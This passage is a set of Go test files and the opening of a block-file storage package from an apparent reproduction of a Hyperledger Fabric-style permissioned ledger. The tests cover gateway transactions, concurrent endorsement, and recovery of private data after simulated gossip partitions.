	payload, err := contract.Evaluate(context.Background(), "get", gateway.WithArguments("k1"))
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if string(payload) != "42" {
		t.Fatalf("payload = %q", payload)
	}
	if h := n.Peer("org1").Ledger().Height(); h != 1 {
		t.Fatalf("height after evaluate = %d", h)
	}
}

// TestGatewaySubmitAsyncStatus overlaps work with the commit wait: the
// Commit handle returns the final code when asked.
func TestGatewaySubmitAsyncStatus(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	commit, err := contract.SubmitAsync(context.Background(), "set", gateway.WithArguments("k2", "v"))
	if err != nil {
		t.Fatalf("submit async: %v", err)
	}
	defer commit.Close()
	if commit.TxID() == "" {
		t.Fatal("no txID on pending commit")
	}
	res, err := commit.Status(context.Background())
	if err != nil {
		t.Fatalf("status: %v", err)
	}
	if res.Code != ledger.Valid || res.TxID != commit.TxID() {
		t.Fatalf("result = %+v", res)
	}
	// Status is idempotent.
	res2, err := commit.Status(context.Background())
	if err != nil || res2 != res {
		t.Fatalf("second status = (%+v, %v)", res2, err)
	}
}

// TestGatewayContextCanceled: a canceled context aborts the flow.
func TestGatewayContextCanceled(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := contract.Submit(ctx, "set", gateway.WithArguments("k", "v")); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v", err)
	}
}

// TestGatewayExplicitEmptyEndorsers: WithEndorsers() with no peers is an
// explicit request for zero endorsers and must fail, not silently fall
// back to the defaults.
func TestGatewayExplicitEmptyEndorsers(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("c1").Contract("asset")

	_, err := contract.Submit(context.Background(), "set",
		gateway.WithArguments("k", "v"), gateway.WithEndorsers())
	if !errors.Is(err, gateway.ErrNoEndorsers) {
		t.Fatalf("err = %v", err)
	}
}

// TestGatewayUnknownChannel: the lazily selected channel is validated on
// the first contract call.
func TestGatewayUnknownChannel(t *testing.T) {
	n := newTestNet(t)
	contract := n.Gateway("org1").Network("nope").Contract("asset")

	_, err := contract.Submit(context.Background(), "set", gateway.WithArguments("k", "v"))
	if err == nil || !strings.Contains(err.Error(), "nope") {
		t.Fatalf("err = %v", err)
	}
	if _, err := contract.Evaluate(context.Background(), "get", gateway.WithArguments("k")); err == nil {
		t.Fatal("evaluate accepted unknown channel")
	}
}

// TestGatewayCrossOrgCommitStream: org2's gateway endorses across all
// three organizations but watches its own org's peer for commit status —
// the cross-org wiring network.New sets up.
func TestGatewayCrossOrgCommitStream(t *testing.T) {
	n := newTestNet(t)
	gw := n.Gateway("org2")
	if gw.CommitPeer() != n.Peer("org2") {
		t.Fatalf("org2 commit peer = %v", gw.CommitPeer().Name())
	}

	res, err := gw.Network("c1").Contract("asset").Submit(
		context.Background(), "set", gateway.WithArguments("k", "v"))
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}
	// Every org's delivery service saw the same commit.
	for _, org := range n.Orgs() {
		svc := n.Peer(org).Deliver()
		if svc.Height() != 1 {
			t.Fatalf("%s deliver height = %d", org, svc.Height())
		}
	}
}

// TestClientAdapterStillWorks: the deprecated client.Client path (now a
// gateway adapter) keeps its observable behaviour, including commit
// notification without polling.
func TestStructInvokeSurface(t *testing.T) {
	n := newTestNet(t)
	gw := n.Gateway("org1")

	res, err := submitTx(gw, n.Peers(), "asset", "set", []string{"k", "v"}, nil)
	if err != nil {
		t.Fatalf("struct submit: %v", err)
	}
	if res.Code != ledger.Valid || res.BlockNum != 0 {
		t.Fatalf("struct submit result = %+v", res)
	}
	if gw.CommitPeer() != service.Peer(n.Peer("org1")) {
		t.Fatal("org gateway must watch its own anchor peer for commits")
	}
}
