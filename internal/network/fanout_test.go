package network

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/gateway"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/service"
)

// TestGatewayCancelDuringEndorserCall: cancellation must release the
// caller while an endorser call is still in flight — not at the next
// loop iteration, as the old sequential fan-out did. One peer's
// chaincode blocks until the test releases it; Submit has to return
// context.Canceled long before that.
func TestGatewayCancelDuringEndorserCall(t *testing.T) {
	n := newTestNet(t)

	entered := make(chan struct{})
	release := make(chan struct{})
	slow := contracts.NewPublicAsset()
	base := slow["set"]
	slow["set"] = func(stub chaincode.Stub) ledger.Response {
		close(entered)
		<-release
		return base(stub)
	}
	n.Peer("org2").InstallChaincode("asset", slow)

	contract := n.Gateway("org1").Network("c1").Contract("asset")
	ctx, cancel := context.WithCancel(context.Background())
	errCh := make(chan error, 1)
	go func() {
		_, err := contract.Submit(ctx, "set", gateway.WithArguments("k", "v"))
		errCh <- err
	}()
	<-entered
	cancel()
	select {
	case err := <-errCh:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Submit did not return while an endorser call was blocked")
	}
	close(release) // let the abandoned endorser goroutine finish
}

// TestParallelEndorsementDeterministicOrder: the concurrent fan-out must
// assemble the transaction from responses in endorser-index order, not
// arrival order. The first endorser is artificially the slowest, so an
// arrival-ordered implementation would put it last.
func TestParallelEndorsementDeterministicOrder(t *testing.T) {
	n := newTestNet(t)
	peers := service.AsEndorsers(n.Peers())

	slow := contracts.NewPublicAsset()
	base := slow["set"]
	slow["set"] = func(stub chaincode.Stub) ledger.Response {
		time.Sleep(30 * time.Millisecond)
		return base(stub)
	}
	n.Peers()[0].InstallChaincode("asset", slow)

	g := n.Gateway("org1")
	prop, err := g.NewProposal("asset", "set", []string{"k", "7"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	tx, _, err := g.EndorseProposal(context.Background(), prop, peers)
	if err != nil {
		t.Fatalf("endorse: %v", err)
	}
	if len(tx.Endorsements) != len(peers) {
		t.Fatalf("%d endorsements for %d endorsers", len(tx.Endorsements), len(peers))
	}
	for i, e := range tx.Endorsements {
		cert, err := identity.ParseCertificate(e.Endorser)
		if err != nil {
			t.Fatal(err)
		}
		if cert.Subject != peers[i].Name() {
			t.Fatalf("endorsement %d from %s, want %s (arrival order leaked into assembly)",
				i, cert.Subject, peers[i].Name())
		}
	}
	// The same responses assemble into the same transaction the
	// sequential path built: content identical except signatures, which
	// are independently random per call.
	tx2, _, err := g.EndorseProposal(context.Background(), prop, peers)
	if err != nil {
		t.Fatalf("re-endorse: %v", err)
	}
	if string(tx2.ResponsePayload) != string(tx.ResponsePayload) {
		t.Fatal("response payload differs across fan-outs")
	}
	if tx2.TxID != tx.TxID || len(tx2.Endorsements) != len(tx.Endorsements) {
		t.Fatal("assembled transaction differs across fan-outs")
	}
}

// TestEndorserErrorReportedNotCancellation: when endorsers fail
// concurrently, the caller gets a real endorsement error naming its
// peer — never the fan-out's internal cancellation, which is a
// consequence of the first failure, not its cause.
func TestEndorserErrorReportedNotCancellation(t *testing.T) {
	n := newTestNet(t)
	peers := service.AsEndorsers(n.Peers())

	// Every peer refuses: the chaincode function doesn't exist.
	g := n.Gateway("org1")
	prop, err := g.NewProposal("asset", "no-such-fn", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10; i++ {
		_, _, err := g.EndorseProposal(context.Background(), prop, peers)
		if err == nil {
			t.Fatal("endorsement of unknown function succeeded")
		}
		if errors.Is(err, context.Canceled) {
			t.Fatalf("internal cancellation leaked to the caller: %v", err)
		}
		if !strings.Contains(err.Error(), "endorsement from ") {
			t.Fatalf("error %q does not name an endorser", err)
		}
	}
}
