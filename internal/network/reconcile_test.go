package network

import (
	"bytes"
	"fmt"
	"testing"

	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/peer"
	"repro/internal/reconcile"
)

// privateStoreDump renders every live private tuple of a collection at a
// peer as "key=value@version" lines — a bit-exact fingerprint of the
// member store used to assert replica convergence.
func privateStoreDump(p *peer.Peer, chaincode, collection string) string {
	var b bytes.Buffer
	for _, key := range p.PvtStore().PrivateKeys(chaincode, collection) {
		value, ver, ok := p.PvtStore().GetPrivate(chaincode, collection, key)
		if !ok {
			continue
		}
		fmt.Fprintf(&b, "%s=%x@%d\n", key, value, ver)
	}
	return b.String()
}

func assertPrivateStoresConverged(t *testing.T, peers []*peer.Peer, chaincode, collection string) {
	t.Helper()
	want := privateStoreDump(peers[0], chaincode, collection)
	for _, p := range peers[1:] {
		if got := privateStoreDump(p, chaincode, collection); got != want {
			t.Fatalf("private stores diverged:\n%s has:\n%s%s has:\n%s",
				peers[0].Name(), want, p.Name(), got)
		}
	}
}

// TestReconcileMissingFromCommittedStore drops gossip deliveries to a
// member peer, commits a private write it cannot obtain, then runs the
// reconciler: the data is recovered from the other member's *committed*
// store (the transient copies are long purged).
func TestReconcileMissingFromCommittedStore(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")

	// org2 is fully isolated from gossip: it neither receives the
	// dissemination nor can it pull at commit time.
	n.Gossip.Isolate("peer0.org2", true)
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}

	org2 := n.Peer("org2")
	if _, _, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("isolated org2 obtained the data")
	}
	if len(org2.MissingPrivateData(res.TxID)) == 0 {
		t.Fatal("missing data not recorded")
	}

	// Gossip works again; the reconciler pulls from org1, whose
	// transient store was purged at its own commit — the value is
	// served by reconstruction from org1's committed private store.
	n.Gossip.Isolate("peer0.org2", false)
	recovered := org2.ReconcileMissing()
	if recovered != 1 {
		t.Fatalf("recovered = %d, want 1", recovered)
	}
	if v, ver, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); !ok || string(v) != "12" || ver != 1 {
		t.Fatalf("after reconcile: (%q, v%d, %v)", v, ver, ok)
	}
	if len(org2.MissingPrivateData(res.TxID)) != 0 {
		t.Fatal("missing entry not cleared")
	}
	// Idempotent.
	if org2.ReconcileMissing() != 0 {
		t.Fatal("second reconcile recovered something")
	}
}

// TestReconcileSkipsSupersededValues: when the key was overwritten after
// the missed transaction, the reconciler must not clobber the newer
// value with the old one.
func TestReconcileSkipsSupersededValues(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")

	n.Gossip.Isolate("peer0.org2", true)
	res1, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatal(err)
	}
	org2 := n.Peer("org2")
	if _, _, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("isolated org2 obtained the first write")
	}

	// A second write supersedes the first; org2 receives this one.
	n.Gossip.Isolate("peer0.org2", false)
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "14"}, nil,
	); err != nil {
		t.Fatal(err)
	}
	if v, _, _ := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); string(v) != "14" {
		t.Fatalf("pre-reconcile value = %q", v)
	}

	// Reconciling the missed first transaction must not regress k1.
	org2.ReconcileMissing()
	if v, ver, _ := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); string(v) != "14" || ver != 2 {
		t.Fatalf("reconcile regressed value: (%q, v%d)", v, ver)
	}
	_ = res1
}

// TestReconcilerConvergenceAfterHeal is the end-to-end anti-entropy
// scenario: dissemination to one member is lost, several private writes
// commit, the reconciler fails (and backs off) while the peer stays
// isolated, the network heals, and a bounded number of ticks makes every
// member peer's private store bit-identical — with attempt counters and
// latency histograms observable on the peer.
func TestReconcilerConvergenceAfterHeal(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	org1, org2 := n.Peer("org1"), n.Peer("org2")

	n.Gossip.Isolate("peer0.org2", true)
	var txIDs []string
	for i := 1; i <= 3; i++ {
		res, err := submitTx(cl,
			[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
			"asset", "setPrivate", []string{fmt.Sprintf("k%d", i), "12"}, nil,
		)
		if err != nil {
			t.Fatal(err)
		}
		if res.Code != ledger.Valid {
			t.Fatalf("tx %d code = %v", i, res.Code)
		}
		txIDs = append(txIDs, res.TxID)
	}
	if got := len(org2.Reconciler().Pending()); got != 0 {
		t.Fatalf("pending before first tick = %d, want 0 (queue fills on tick)", got)
	}

	// Two ticks while still isolated: every entry is attempted, fails,
	// and backs off.
	for tick := 0; tick < 2; tick++ {
		if got := org2.TickReconcile(); got != 0 {
			t.Fatalf("isolated tick recovered %d", got)
		}
	}
	pending := org2.Reconciler().Pending()
	if len(pending) != 3 {
		t.Fatalf("pending = %v, want 3 entries", pending)
	}
	for _, e := range pending {
		if got := org2.Reconciler().Attempts(e); got == 0 {
			t.Fatalf("entry %v has no failed attempts recorded", e)
		}
	}
	m := org2.Metrics()
	if m[metrics.ReconcileEnqueued] != 3 || m[metrics.ReconcileFailures] == 0 || m[metrics.ReconcileRecovered] != 0 {
		t.Fatalf("isolated-phase counters = %v", m)
	}

	// Heal and tick: with the default policy (base backoff 1 tick,
	// doubling) every entry retries within a few ticks of the heal.
	n.Gossip.Isolate("peer0.org2", false)
	recovered := 0
	for tick := 0; tick < 10 && len(org2.Reconciler().Pending()) > 0; tick++ {
		recovered += org2.TickReconcile()
	}
	if recovered != 3 {
		t.Fatalf("recovered = %d, want 3", recovered)
	}
	for _, txID := range txIDs {
		if miss := org2.MissingPrivateData(txID); len(miss) != 0 {
			t.Fatalf("tx %s still missing %v", txID, miss)
		}
	}
	assertPrivateStoresConverged(t, []*peer.Peer{org1, org2}, "asset", "pdc1")

	m = org2.Metrics()
	if m[metrics.ReconcileRecovered] != 3 || m[metrics.ReconcileGiveUps] != 0 {
		t.Fatalf("healed-phase counters = %v", m)
	}
	attemptHist := org2.Timings()[metrics.ReconcileAttempt]
	if attemptHist.Count != m[metrics.ReconcileAttempts] || attemptHist.Count == 0 {
		t.Fatalf("attempt histogram count = %d, counter = %d",
			attemptHist.Count, m[metrics.ReconcileAttempts])
	}
}

// TestReconcilerGiveUpAndReinstate: entries that keep failing are
// abandoned after ReconcileMaxAttempts and stay visible in the gave-up
// queue; an operator Reinstate after the heal recovers them.
func TestReconcilerGiveUpAndReinstate(t *testing.T) {
	n := newTestNet(t)
	sec := core.OriginalFabric()
	sec.ReconcileMaxAttempts = 2
	sec.ReconcileBaseBackoff = 1
	sec.ReconcileMaxBackoff = 1
	n.SetSecurity(sec)
	cl := n.Gateway("org1")
	org2 := n.Peer("org2")

	n.Gossip.Isolate("peer0.org2", true)
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatal(err)
	}

	// Two failing ticks exhaust the attempt budget.
	org2.TickReconcile()
	org2.TickReconcile()
	gaveUp := org2.Reconciler().GaveUp()
	want := reconcile.Entry{TxID: res.TxID, Collection: "pdc1"}
	if len(gaveUp) != 1 || gaveUp[0] != want {
		t.Fatalf("gaveUp = %v, want [%v]", gaveUp, want)
	}
	if len(org2.Reconciler().Pending()) != 0 {
		t.Fatal("gave-up entry still pending")
	}
	m := org2.Metrics()
	if m[metrics.ReconcileGiveUps] != 1 || m[metrics.ReconcileAttempts] != 2 {
		t.Fatalf("counters = %v", m)
	}

	// Healing alone does not resurrect it: no further attempts burn.
	n.Gossip.Isolate("peer0.org2", false)
	if org2.TickReconcile() != 0 {
		t.Fatal("gave-up entry was retried")
	}
	if got := org2.Metrics()[metrics.ReconcileAttempts]; got != 2 {
		t.Fatalf("attempts after give-up = %d, want 2", got)
	}
	// The entry is still recorded as missing at the validator.
	if len(org2.MissingPrivateData(res.TxID)) != 1 {
		t.Fatal("missing record lost")
	}

	// Operator intervention: reinstate and tick.
	if !org2.Reconciler().Reinstate(want) {
		t.Fatal("Reinstate failed")
	}
	if got := org2.TickReconcile(); got != 1 {
		t.Fatalf("recovered after reinstate = %d, want 1", got)
	}
	assertPrivateStoresConverged(t, []*peer.Peer{n.Peer("org1"), org2}, "asset", "pdc1")
}

// TestReconcilerBackoffSpacing: a still-failing entry is NOT attempted
// on every tick — the capped exponential backoff spaces the retries.
func TestReconcilerBackoffSpacing(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	org2 := n.Peer("org2")

	n.Gossip.Isolate("peer0.org2", true)
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	); err != nil {
		t.Fatal(err)
	}

	// Default policy: base 1, doubling. Attempts land on ticks
	// 1, 2, 4, 8, ... — after 8 ticks only 4 attempts must have burned.
	for i := 0; i < 8; i++ {
		org2.TickReconcile()
	}
	if got := org2.Metrics()[metrics.ReconcileAttempts]; got != 4 {
		t.Fatalf("attempts after 8 ticks = %d, want 4 (backoff spacing)", got)
	}
}
