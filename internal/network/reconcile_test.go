package network

import (
	"testing"

	"repro/internal/ledger"
	"repro/internal/peer"
)

// TestReconcileMissingFromCommittedStore drops gossip deliveries to a
// member peer, commits a private write it cannot obtain, then runs the
// reconciler: the data is recovered from the other member's *committed*
// store (the transient copies are long purged).
func TestReconcileMissingFromCommittedStore(t *testing.T) {
	n := newTestNet(t)
	cl := n.Client("org1")

	// org2 is fully isolated from gossip: it neither receives the
	// dissemination nor can it pull at commit time.
	n.Gossip.Isolate("peer0.org2", true)
	res, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}

	org2 := n.Peer("org2")
	if _, _, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("isolated org2 obtained the data")
	}
	if len(org2.MissingPrivateData(res.TxID)) == 0 {
		t.Fatal("missing data not recorded")
	}

	// Gossip works again; the reconciler pulls from org1, whose
	// transient store was purged at its own commit — the value is
	// served by reconstruction from org1's committed private store.
	n.Gossip.Isolate("peer0.org2", false)
	recovered := org2.ReconcileMissing()
	if recovered != 1 {
		t.Fatalf("recovered = %d, want 1", recovered)
	}
	if v, ver, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); !ok || string(v) != "12" || ver != 1 {
		t.Fatalf("after reconcile: (%q, v%d, %v)", v, ver, ok)
	}
	if len(org2.MissingPrivateData(res.TxID)) != 0 {
		t.Fatal("missing entry not cleared")
	}
	// Idempotent.
	if org2.ReconcileMissing() != 0 {
		t.Fatal("second reconcile recovered something")
	}
}

// TestReconcileSkipsSupersededValues: when the key was overwritten after
// the missed transaction, the reconciler must not clobber the newer
// value with the old one.
func TestReconcileSkipsSupersededValues(t *testing.T) {
	n := newTestNet(t)
	cl := n.Client("org1")

	n.Gossip.Isolate("peer0.org2", true)
	res1, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatal(err)
	}
	org2 := n.Peer("org2")
	if _, _, ok := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("isolated org2 obtained the first write")
	}

	// A second write supersedes the first; org2 receives this one.
	n.Gossip.Isolate("peer0.org2", false)
	if _, err := cl.SubmitTransaction(
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "14"}, nil,
	); err != nil {
		t.Fatal(err)
	}
	if v, _, _ := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); string(v) != "14" {
		t.Fatalf("pre-reconcile value = %q", v)
	}

	// Reconciling the missed first transaction must not regress k1.
	org2.ReconcileMissing()
	if v, ver, _ := org2.PvtStore().GetPrivate("asset", "pdc1", "k1"); string(v) != "14" || ver != 2 {
		t.Fatalf("reconcile regressed value: (%q, v%d)", v, ver)
	}
	_ = res1
}
