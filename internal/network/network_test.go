package network

import (
	"strings"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

// newTestNet builds the paper's three-org prototype: org1 and org2 are
// PDC members, org3 is a non-member, chaincode-level policy is the
// channel default ("MAJORITY Endorsement").
func newTestNet(t *testing.T) *Network {
	t.Helper()
	n, err := New(Options{
		Orgs: []string{"org1", "org2", "org3"},
		Seed: 42,
	})
	if err != nil {
		t.Fatalf("build network: %v", err)
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	if err := n.DeployChaincode(def, contracts.NewPublicAsset()); err != nil {
		t.Fatalf("deploy: %v", err)
	}
	install := func(org string, c contracts.Constraint) {
		merged := contracts.NewPublicAsset()
		for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1", Constraint: c}) {
			merged[name] = fn
		}
		n.Peer(org).InstallChaincode("asset", merged)
	}
	install("org1", contracts.MaxValue(15))
	install("org2", contracts.MinValue(10))
	install("org3", nil)
	return n
}

func TestPublicTransactionRoundTrip(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")

	res, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k1", "hello"}, nil)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("tx code = %v, want Valid", res.Code)
	}

	for _, p := range n.Peers() {
		value, ver, ok := p.WorldState().Get("asset", "k1")
		if !ok || string(value) != "hello" || ver != 1 {
			t.Errorf("peer %s: got (%q, v%d, %v), want (hello, v1, true)", p.Name(), value, ver, ok)
		}
	}

	payload, err := evalTx(cl, n.Peer("org2"), "asset", "get", "k1")
	if err != nil {
		t.Fatalf("evaluate: %v", err)
	}
	if string(payload) != "hello" {
		t.Fatalf("evaluate payload = %q, want hello", payload)
	}
}

func TestPDCWriteVisibleOnlyAtMembers(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	// Honest flow: endorse with both member orgs (value 12 satisfies
	// org1's <15 and org2's >10).
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("tx code = %v, want Valid", res.Code)
	}

	for _, org := range []string{"org1", "org2"} {
		value, ver, ok := n.Peer(org).PvtStore().GetPrivate("asset", "pdc1", "k1")
		if !ok || string(value) != "12" || ver != 1 {
			t.Errorf("member %s: got (%q, v%d, %v), want (12, v1, true)", org, value, ver, ok)
		}
	}
	if _, _, ok := n.Peer("org3").PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Error("non-member org3 has original private data")
	}
	if _, ver, ok := n.Peer("org3").PvtStore().GetPrivateHash("asset", "pdc1", "k1"); !ok || ver != 1 {
		t.Errorf("non-member org3 hash store: ok=%v ver=%d, want true, 1", ok, ver)
	}
}

func TestNonMemberEndorserErrorsOnPDCRead(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	); err != nil {
		t.Fatalf("setup write: %v", err)
	}

	// Use Case 1: a read proposal to the non-member fails with the
	// private-data-unavailable error.
	_, err := evalTx(cl, n.Peer("org3"), "asset", "readPrivate", "k1")
	if err == nil {
		t.Fatal("non-member endorsed a PDC read without error")
	}
	if !strings.Contains(err.Error(), "private data is not available") {
		t.Fatalf("unexpected error: %v", err)
	}

	// But the same non-member endorses a write-only proposal fine
	// (empty read set: nothing to look up).
	if _, err := evalTx(cl, n.Peer("org3"), "asset", "setPrivate", "k1", "5"); err != nil {
		t.Fatalf("non-member write-only endorsement failed: %v", err)
	}

	// And GetPrivateDataHash works on the non-member, reporting the
	// same version the members hold — the §IV-A1 version oracle.
	digest, err := evalTx(cl, n.Peer("org3"), "asset", "readPrivateHash", "k1")
	if err != nil {
		t.Fatalf("readPrivateHash on non-member: %v", err)
	}
	if len(digest) == 0 {
		t.Fatal("readPrivateHash returned empty digest")
	}
}

func TestMVCCConflictRejected(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "1"}, nil); err != nil {
		t.Fatalf("setup: %v", err)
	}

	// Endorse a read-write transaction, then commit a conflicting
	// write before ordering the first one.
	prop, err := cl.NewProposal("asset", "add", []string{"k", "1"}, nil)
	if err != nil {
		t.Fatalf("proposal: %v", err)
	}
	tx, _, err := endorseProp(cl, prop, n.Peers())
	if err != nil {
		t.Fatalf("endorse: %v", err)
	}
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"k", "9"}, nil); err != nil {
		t.Fatalf("interleaved write: %v", err)
	}
	res, err := orderTx(cl, tx)
	if err != nil {
		t.Fatalf("order stale tx: %v", err)
	}
	if res.Code != ledger.MVCCConflict {
		t.Fatalf("stale tx code = %v, want MVCC_READ_CONFLICT", res.Code)
	}
	// The stale transaction must not have changed the state.
	value, _, _ := n.Peer("org1").WorldState().Get("asset", "k")
	if string(value) != "9" {
		t.Fatalf("state = %q, want 9", value)
	}
}

func TestReadSubmittedAsTransactionLandsInAllLedgers(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	); err != nil {
		t.Fatalf("setup write: %v", err)
	}

	// The audited-read pattern (§IV-B1): the read is submitted as a
	// transaction, so every peer, including the non-member, stores it.
	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "readPrivate", []string{"k1"}, nil,
	)
	if err != nil {
		t.Fatalf("submit read: %v", err)
	}
	if string(res.Payload) != "12" {
		t.Fatalf("read payload = %q, want 12", res.Payload)
	}
	if _, _, err := n.Peer("org3").Ledger().Transaction(res.TxID); err != nil {
		t.Fatalf("non-member ledger lacks read tx: %v", err)
	}
}
