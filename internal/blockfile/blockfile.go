// Package blockfile provides durable, append-only block storage: the
// on-disk ledger of a peer. Fabric persists its blockchain in exactly
// this style (length-prefixed records in append-only files); a peer that
// restarts rebuilds its world state by replaying the file.
//
// Record format: 4-byte big-endian length, then the JSON-serialized
// block. The file is self-describing; Open scans it once to validate
// record framing and hash linkage, truncating a torn tail left by a
// crash mid-append (docs/STORAGE.md §6).
//
// Store implements storage.BlockStore and is mounted as the block store
// of the durable backend (internal/storage/durable).
package blockfile

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sync"

	"repro/internal/ledger"
	"repro/internal/storage"
)

// ErrCorrupt is returned when the block file fails framing or chain
// validation at a position Open is not allowed to repair. Errors carry
// both this sentinel and storage.ErrCorrupt.
var ErrCorrupt = errors.New("blockfile: corrupt block file")

// Store is an append-only block file. It implements storage.BlockStore.
type Store struct {
	path string

	mu       sync.Mutex
	f        *os.File
	height   uint64
	size     int64 // offset of the end of the last intact record
	writeErr error // sticky: the store is broken after a failed append
	closed   bool
}

var _ storage.BlockStore = (*Store)(nil)

// Open opens (or creates) the block file under dir and validates its
// contents. An incomplete record at the end of the file — the signature
// of a crash mid-append — is truncated away; corruption anywhere else
// (bad JSON, broken hash chain, out-of-order numbers) fails with
// ErrCorrupt.
func Open(dir string) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("%w: blockfile: mkdir: %v", storage.ErrIO, err)
	}
	path := filepath.Join(dir, "blocks.bin")
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, fmt.Errorf("%w: blockfile: open: %v", storage.ErrIO, err)
	}
	s := &Store{path: path, f: f}
	blocks, size, err := s.scan(true)
	if err != nil {
		f.Close()
		return nil, err
	}
	s.height = uint64(len(blocks))
	s.size = size
	if _, err := f.Seek(size, io.SeekStart); err != nil {
		f.Close()
		return nil, fmt.Errorf("%w: blockfile: seek: %v", storage.ErrIO, err)
	}
	return s, nil
}

// Close releases the underlying file.
func (s *Store) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil
	}
	s.closed = true
	if err := s.f.Close(); err != nil {
		return fmt.Errorf("%w: blockfile: close: %v", storage.ErrIO, err)
	}
	return nil
}

// Height returns the number of stored blocks.
func (s *Store) Height() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.height
}

// Append durably appends a block: the call returns only after the
// record is written and fsynced. Blocks must arrive in order. On a
// write or sync failure the partial record is rolled back (truncated)
// and the store goes sticky-broken: every later Append fails until the
// file is reopened, which re-runs validation.
func (s *Store) Append(b *ledger.Block) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return storage.ErrClosed
	}
	if s.writeErr != nil {
		return s.writeErr
	}
	if b.Header.Number != s.height {
